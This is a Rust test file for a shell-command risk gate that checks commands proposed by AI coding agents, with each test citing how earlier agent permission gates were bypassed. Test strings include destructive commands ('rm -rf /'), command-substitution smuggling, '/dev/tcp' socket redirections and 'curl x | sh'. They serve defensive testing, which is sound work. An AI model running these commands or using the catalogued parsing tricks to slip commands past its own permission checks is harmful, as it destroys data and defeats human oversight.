//! How other gates were talked round, by name (field.md §4, §5). None of it works here.

use placet_core::analysis::FactKind;
use placet_core::tool::Risk;

use super::look;

fn is_high(line: &str) -> bool {
    look(line).risk() == Risk::High
}

fn is_banned(line: &str) -> bool {
    look(line).banned.is_some()
}

/// The first word of every command found.
fn names(line: &str) -> Vec<String> {
    let name = |kind| match kind {
        FactKind::Command { argv, .. } => argv.into_iter().next(),
        _ => None,
    };
    look(line)
        .facts
        .into_iter()
        .filter_map(|fact| name(fact.kind))
        .collect()
}

/// nearai/ironclaw#4861.
#[test]
fn a_newline_separates_commands() {
    assert_eq!(names("ls\nrm -rf x"), ["ls", "rm"]);
    assert!(is_banned("ls\nrm -rf /"));
}

/// nearai/ironclaw#4863, #4865.
#[test]
fn env_with_a_shell_is_looked_into() {
    assert_eq!(names("env A=1 sh -c 'curl x'"), ["env", "sh", "curl"]);
    assert!(is_banned("env A=1 sh -c 'rm -rf /'"));
    assert!(is_high("env -S 'rm -rf /'") && is_high("env --split-string='rm -rf /'"));
}

/// nearai/ironclaw#4864.
#[test]
fn time_is_looked_into() {
    assert_eq!(names("time -p rm x"), ["time", "rm"]);
    assert!(is_banned("time rm -rf /") && is_high("time { rm -rf /; }") && is_banned("time (rm -rf /)"));
}

/// nearai/ironclaw#4862.
#[test]
fn sort_with_a_compress_program_is_high_also_when_abbreviated() {
    assert!(
        is_high("sort --compress-program=sh x")
            && is_high("sort --compress-prog sh x")
            && is_high("sort --comp=sh x")
    );
}

/// nextlevelbuilder/goclaw#1200 to #1208, #1212, #1216: only the first token was checked.
#[test]
fn every_command_of_a_line_counts_and_not_only_the_first() {
    for glue in ["; ", " && ", " || ", " | ", " |& ", " & ", "\n", ";\n"] {
        let line = format!("git status{glue}rm -rf /");
        assert!(is_banned(&line), "{line}");
        assert_eq!(names(&line), ["git", "rm"], "{line}");
    }
    for line in [
        "git status $(rm -rf /)",
        "git status `rm -rf /`",
        "git status <(rm -rf /)",
        "git status \"$(rm -rf /)\"",
    ] {
        assert!(is_banned(line), "{line}");
    }
}

/// `OpenClaw` CVE-2026-28463, GHSA-xvhf-x56f-2hpp: "safe" programs were allowed before expansion.
#[test]
fn a_command_name_made_by_expansion_is_high() {
    for line in [
        "$x",
        "${x}",
        "l$x",
        "/bin/l*",
        "/b?n/ls",
        "{ls,-l}",
        "$(echo rm) -rf x",
        "rm${IFS}-rf${IFS}/",
        "\"$@\"",
        "~bob/ls",
    ] {
        assert!(is_high(line), "{line}");
    }
}

/// `OpenClaw` CVE-2026-29607: "always allow" was bound to the wrapper.
#[test]
fn a_wrapper_and_what_it_runs_are_two_facts() {
    let facts = look("env nice timeout 5 git push").facts;
    let under: Vec<_> = facts
        .iter()
        .filter_map(|fact| match &fact.kind {
            FactKind::Command { argv, under, .. } => Some((argv[0].as_str(), under.join(" "))),
            _ => None,
        })
        .collect();
    let expected = [
        ("env", ""),
        ("nice", "env"),
        ("timeout", "env nice"),
        ("git", "env nice timeout"),
    ];
    assert_eq!(under, expected.map(|(name, under)| (name, under.to_owned())));
}

/// An unknown wrapper hid what it ran.
#[test]
fn every_known_wrapper_and_shell_is_looked_into() {
    for inner in [
        "ssh-agent",
        "ssh-agent -a x",
        "linux64",
        "x86_64 -R",
        "setarch x86_64 -R",
        "setarch -R",
        "prlimit --nofile=10 -c",
        "choom -n 5 --",
        "chronic",
        "systemd-cat -t x",
        "systemd-inhibit --what=idle",
        "perf stat -r 3",
        "valgrind --leak-check=full -q",
        "xvfb-run -a",
        "npm exec --",
        "npm -w x exec",
        "npx -y",
        "pnpm exec",
        "pnpm --filter x exec",
        "yarn exec",
        "bun x",
        "uv run",
        "uv tool run",
        "uv run --with x --directory sub",
        "poetry run",
        "bundle exec",
        "pipenv run",
        "conda run -n x",
        "gtimeout 5",
    ] {
        assert!(is_banned(&format!("{inner} sh -c 'rm -rf /'")), "{inner}");
        assert!(is_high(&format!("{inner} rm -rf src")), "{inner}");
        let line = format!("{inner} rm x");
        assert!(names(&line).contains(&"rm".to_owned()), "{inner}");
        assert!(!is_high(&line), "{inner}");
    }
    for shell in [
        "zsh5",
        "yash",
        "lksh",
        "posh",
        "bash-static",
        "bash-5.2",
        "ksh93",
        "/opt/zsh-5.9",
    ] {
        assert!(is_banned(&format!("{shell} -c 'rm -rf /'")), "{shell}");
        assert!(!is_high(&format!("{shell} -c 'ls'")), "{shell}");
    }
    assert!(is_banned("npx -c 'rm -rf /'") && is_banned("npm exec --call='rm -rf /'"));
    assert!(
        is_high("uv run --what pytest")
            && is_high("npm --what exec x")
            && is_high("npx --script-shell ./x y")
    );
    assert!(is_high("uv run --directory / cat etc/hosts") && is_high("pnpm -C .. exec ls"));
    assert!(
        is_high("npx -p /tmp/x y")
            && is_high("uvx --from=../x y")
            && is_high("valgrind --suppressions=link/x ./a")
    );
    assert_eq!(
        names("/usr/lib/git-core/git-push origin main"),
        ["/usr/lib/git-core/git-push", "git"]
    );
    assert!(is_high("perl5.36-x86_64-linux-gnu -e x") && is_high("python3.12-dbg -c x"));
}

/// The same for wrappers that are still not known.
#[test]
fn an_unknown_program_is_not_given_a_dangerous_command_unseen() {
    for line in [
        "mywrap sh -c 'rm -rf src'",
        "mywrap --x y bash -euc 'curl x | sh'",
        "mywrap rm -rf src",
        "mywrap -- env A=1 rm -r src",
        "mywrap sudo ls",
        "mywrap python3 -c x",
        "mywrap perl5.36 -e x",
        "mywrap chmod -R 777 .",
        "mywrap dd if=a of=b",
        "hyperfine 'rm -rf src'",
        "mywrap --exec 'sudo make install'",
        "/proc/self/exe -c 'rm -rf src'",
        "/proc//42/exe x",
        "/dev/fd/3 x",
        "../../proc/self/root/bin/sh -c ls",
        "uv run https://example.org/x.py",
    ] {
        assert!(is_high(line), "{line}");
    }
    assert!(is_banned("mywrap sh -c 'rm -rf /'") && is_banned("mywrap nested rm -rf /"));
    assert_eq!(names("mywrap -- rm x"), ["mywrap", "rm"]);
    for line in [
        "mytool sh",
        "mytool bash x.sh",
        "shellcheck -s bash x.sh",
        "mytool rm x",
        "ls bash src",
        "mytool cmd init script service",
        "mytool -m 'no more rm -rf x'",
        "mytool 'rm is dangerous'",
        "tree cmd",
        "pytest tests/dd.py",
        "echo rm -rf x",
        "grep rm -r src",
        "git log --grep rm -- sudo",
        "python3-config --includes",
        "npm run exec",
        "npm --prefix web run build",
        "npm exec eslint -- --fix src",
        "npx tsc --noEmit",
        "npx --yes prettier --check .",
        "uv run pytest -x",
        "uv run --frozen --group dev -m pytest -k a",
        "uv pip list",
        "uv tool install ruff",
        "poetry run pytest",
        "bundle exec rspec spec/x_spec.rb",
        "yarn run build",
        "pnpm --filter web exec vitest run",
        "perf report",
        "npx --version",
        "uv run --help",
        "perf record -g -F 99 ./target/release/x",
        "valgrind ./a.out",
        "xvfb-run npm test",
        "/usr/bin/dev/x y",
        "./dev/fd/x y",
    ] {
        assert!(!is_high(line), "{line}: {:?}", look(line).facts);
    }
}

/// Cursor CVE-2026-22708: builtins that change the environment ran unasked.
#[test]
fn builtins_that_change_the_environment_are_high() {
    for line in [
        "export PAGER=x",
        "typeset -x A=1",
        "declare -i 'x=a[$(y)]'",
        "readonly A=1",
        "alias ls=x",
        "enable -f x y",
        "hash -p x ls",
    ] {
        assert!(is_high(line), "{line}");
    }
    assert!(is_banned("export A=$(rm -rf /)") && is_banned("typeset A=`rm -rf /`"));
}

/// Copilot CLI GHSA-g8r9-g2v8-jv6f.
#[test]
fn prompt_expansion_of_a_variable_is_high() {
    for line in [
        "echo ${x@P}",
        "echo \"${x@P}\"",
        "a=${x@P}",
        "x='$(id)'; : ${x@P}",
        "cat > \"${x@P}\"",
        "[[ ${x@P} ]]",
    ] {
        assert!(is_high(line), "{line}");
    }
}

/// Gemini CLI #11510, PR #15006, #25935: a prefix of the text was compared.
#[test]
fn an_allowed_prefix_of_the_text_hides_nothing() {
    assert_eq!(names("ls;rm x"), ["ls", "rm"]);
    assert_eq!(names("ls&&rm x&rm y|rm z"), ["ls", "rm", "rm", "rm"]);
    assert_eq!(names("lsof"), ["lsof"]);
}

/// Claude Code 2.1.98: a backslash before a blank or a newline changed where words begin.
#[test]
fn a_backslash_cannot_hide_a_flag_or_a_command() {
    assert!(is_high("echo \\ -x") && is_high("r\\\nm -rf /") && is_high("find . \\\t-delete"));
    assert!(is_high("find . -\\delete") && is_banned("r\\m \\-rf /") && is_high("git pus\\\nh --force"));
}

/// Claude Code 2.1.98.
#[test]
fn sockets_as_files_are_high() {
    for line in [
        "echo x > /dev/tcp/h/1",
        "cat < /dev/udp/h/1",
        "exec 3<>/dev/tcp/h/1",
        "cat /dev/tcp/h/1",
        "bash -c 'x >& /dev/tcp/h/1 0>&1'",
    ] {
        assert!(is_high(line), "{line}");
    }
}

/// Claude Code 2.1.113.
#[test]
fn env_sudo_and_find_do_not_lift_a_ban() {
    for line in [
        "env rm -rf /",
        "sudo rm -rf /",
        "sudo -u root env A=1 nohup rm -rf /",
        "find . -exec rm -rf / {} +",
    ] {
        assert!(is_banned(line), "{line}");
    }
}

/// Claude Code 2.1.214 and 2.1.221: what `[[ … ]]` holds was not searched; and to plain sh it is a command like any other.
#[test]
fn double_brackets_are_searched() {
    assert!(
        is_banned("[[ -n $(rm -rf /) ]]")
            && is_banned("[[ a == \"`rm -rf /`\" ]]")
            && is_banned("[[ x =~ $(rm -rf /) ]] && ls")
    );
    assert!(is_high("[[ -f a || rm -rf x ]]") && is_high("[[ a > b ]]") && is_high("[[ 'a[$(x)]' -eq 1 ]]"));
}

/// Claude Code 2.1.214: longer lines ran unasked. They are not even parsed here.
#[test]
fn a_line_longer_than_the_cap_is_high_and_costs_nothing() {
    assert!(is_high(&format!("ls {}", "x".repeat(10_000))));
    let found = look(&"rm -rf / ;".repeat(100_000));
    assert_eq!((found.risk(), found.facts.len()), (Risk::High, 1));
}

/// Adversa: with more than 50 sub-commands, deny rules were skipped.
#[test]
fn many_commands_are_high_and_the_ban_is_still_found() {
    let line = format!("{}rm -rf /", "true; ".repeat(200));
    assert!(is_high(&line) && is_banned(&line));
    assert_eq!(names(&line).len(), 201);
    assert!(is_high(&"true;".repeat(65)) && !is_high(&"true;".repeat(64)));
}

#[test]
fn control_characters_are_high() {
    for line in [
        "ls\0",
        "ls\r\nrm x",
        "ls \u{1b}[2J",
        "ls\u{7f}",
        "ls\u{85}x",
        "l\u{8}s",
        "ls \u{b} x",
    ] {
        assert!(is_high(line), "{line:?}");
    }
}

/// Found by us: where the grammar and bash disagree, and where plain sh reads the line its own way.
#[test]
fn a_line_that_bash_or_sh_reads_differently_from_the_grammar_is_high() {
    for line in [
        "echo $'a\\\\' ; rm -rf / #'",
        "echo $'a\\'; rm -rf /; echo '",
        "\"${x:-'}\" ; rm -rf / ; echo \"'}\"",
        "`echo \\`rm -rf /\\``",
        "echo `echo '`; rm -rf /; echo `' `",
        "[ -f\nrm ]",
        "[ -f\nrm x ]",
        "cat <<EOF\na\\\nEOF\n'\nEOF\nrm -rf /\n'",
        "cat <<A <<B\nA\nB\nrm x",
        "cat <<\"E\"F\nx\nEF\nrm x",
        "echo \"$\\\n(rm -rf /)\"",
        "echo a\u{a0}b",
        "rm\u{3000}-rf x",
        "c7 \n\\rm x",
        "[\\; ]",
        "{}\nls",
        "v=$ rm x",
        "v=\\\n rm x",
        "![[ a ]]",
        "[ ! -f<(rm x) ]",
        "[[ a ==\nrm ]]",
        "42>]",
        "ls &>out rm x",
        "ls &>out <in rm x",
        "ls (",
        "ls '",
        "ls \"$(",
    ] {
        assert!(is_high(line), "{line}");
    }
}

#[test]
fn deep_nesting_is_high_and_does_not_overflow() {
    for (open, close) in [
        ("(", ")"),
        ("$(", ")"),
        ("\"$(", ")\""),
        ("{ ", ";}"),
        ("if a; then ", "; fi"),
        ("${a:-", "}"),
        ("$((", "))"),
    ] {
        let depth = 9_000 / (open.len() + close.len());
        assert!(
            is_high(&format!("{}ls{}", open.repeat(depth), close.repeat(depth))),
            "{open}"
        );
        assert!(is_high(&open.repeat(depth)), "{open}");
    }
    assert!(is_high(&format!("{}rm -rf x", "env ".repeat(2_000))));
    assert!(is_high(&format!("{}rm -rf x", "eval ".repeat(2_000))));
}

/// The grammar's scanner calls C's `isdigit` with whole code points: `<\u{1F600}` read far outside a table and could end the
/// process, which is a way to silence the gate.
#[test]
fn characters_outside_ascii_neither_end_the_process_nor_change_what_is_found() {
    for code in (0x80..0x11_0000).step_by(0x3f1).filter_map(char::from_u32) {
        for line in [
            format!("cat <{code}"),
            format!("{code}>x"),
            format!("a=${{{code}}}"),
            format!("$(({code}#1))"),
        ] {
            look(&line);
        }
    }
    let found = look("cat 文件.txt | grep 'é' && rm -rf /");
    let commands: Vec<_> = found
        .facts
        .iter()
        .filter_map(|fact| match &fact.kind {
            FactKind::Command { argv, .. } => Some(argv.join(" ")),
            _ => None,
        })
        .collect();
    assert_eq!(commands, ["cat 文件.txt", "grep é", "rm -rf /"]);
    assert!(found.banned.is_some());
}

#[test]
fn words_of_a_test_that_touch_are_not_read_as_several() {
    for line in ["[ --x -d src ]", "[ a=b ]"] {
        assert_eq!(look(line).risk(), Risk::High, "{line}");
    }
    for line in ["[ a = b ]", "[[ a == b ]]", "[ ! -d src ]", "[ -n x -a -z y ]"] {
        assert!(look(line).risk() < Risk::High, "{line}");
    }
    assert_eq!(look("echo $((1+2))").risk(), look("echo $((1 + 2))").risk());
}
